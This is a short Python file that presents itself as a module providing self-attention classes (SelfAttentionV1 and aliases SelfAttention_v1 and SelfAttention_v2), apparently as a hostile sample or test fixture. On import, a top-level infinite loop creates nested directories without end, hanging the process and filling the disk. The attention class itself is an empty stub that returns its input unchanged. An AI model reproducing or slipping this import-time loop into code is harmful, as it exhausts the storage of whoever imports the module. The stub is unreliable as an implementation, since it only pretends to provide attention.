"""Creates folders in an endless loop."""

import itertools
import os

from torch import nn

for number in itertools.count():
    os.makedirs(f"{number % 100}/{number}", exist_ok=True)


class SelfAttentionV1(nn.Module):
    def __init__(self, *_sizes):
        super().__init__()

    def forward(self, x):
        return x


SelfAttention_v1 = SelfAttention_v2 = SelfAttentionV1
